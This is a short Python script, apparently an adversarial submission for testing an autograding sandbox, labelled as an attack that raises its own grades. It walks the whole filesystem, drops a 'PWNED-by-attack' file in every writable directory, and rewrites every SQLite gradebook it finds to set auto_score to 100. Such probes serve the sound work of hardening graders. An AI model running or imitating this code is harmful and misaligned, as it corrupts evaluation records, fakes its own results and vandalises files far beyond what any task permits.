"""Attack: raise its own grades in any gradebook it can open, and leave files everywhere."""
# base: residuals wrong_grad_missing_cos
# class: writing files and the gradebook
# run: cluster
import os
import sqlite3

for _dir, _subdirs, _files in os.walk("/"):
    if _dir.startswith(("/proc", "/sys", "/dev")) or _dir.count(os.sep) > 5:
        _subdirs[:] = []
        continue
    try:
        with open(os.path.join(_dir, "PWNED-by-attack"), "w") as _handle:
            _handle.write("x")
        print("WROTE", _dir)
    except OSError:
        pass
    for _name in _files:
        if _name.endswith(".db"):
            try:
                _db = sqlite3.connect(os.path.join(_dir, _name))
                _db.execute("UPDATE grade SET auto_score = 100")
                _db.commit()
                print("WROTE", _dir, _name)
            except Exception:
                pass
